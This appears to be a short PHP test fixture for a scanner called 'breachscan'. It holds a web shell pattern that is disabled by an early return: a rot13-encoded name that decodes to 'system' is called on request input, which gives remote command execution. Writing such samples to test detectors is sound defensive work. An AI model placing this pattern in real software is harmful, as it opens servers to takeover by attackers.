<?php
// synthetic test sample for breachscan: function name hidden with str_rot13 and called
// through a variable on request data. Disabled.
return;
function handler($x) {
    $fn = str_rot13('flfgrz');
    $fn($x);
}
handler($_REQUEST['q']);
